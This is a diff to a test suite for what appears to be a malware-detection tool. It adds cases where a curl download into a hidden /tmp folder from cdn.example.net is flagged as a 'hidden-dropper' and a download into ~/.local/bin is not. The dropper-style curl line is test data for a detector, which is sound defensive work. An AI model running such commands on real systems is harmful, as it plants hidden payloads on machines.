@@ -147,6 +147,11 @@ describe('decisive indicators', () => {
     expect(decide([drop('kworker')], timid).decisive).toBe('hidden-dropper');
     expect(decide([drop('svchost.exe')], timid).decisive).toBe('hidden-dropper');
     expect(decide([drop('ripgrep')], timid).decisive).toBeUndefined();
+    // A hidden folder in /tmp hides it as well; a hidden folder under home is where installers put tools.
+    const inTmp = { ...drop('helper'), evidence: 'curl -so /tmp/.cache/helper https://cdn.example.net/h' };
+    expect(decide([inTmp], timid).decisive).toBe('hidden-dropper');
+    const inHome = { ...drop('rg'), evidence: 'curl -so ~/.local/bin/rg https://cdn.example.net/rg' };
+    expect(decide([inHome], timid).decisive).toBeUndefined();
     expect(decide([{ ...drop('.helper'), confidence: 0.4 }], timid).decisive).toBeUndefined();
   });
 
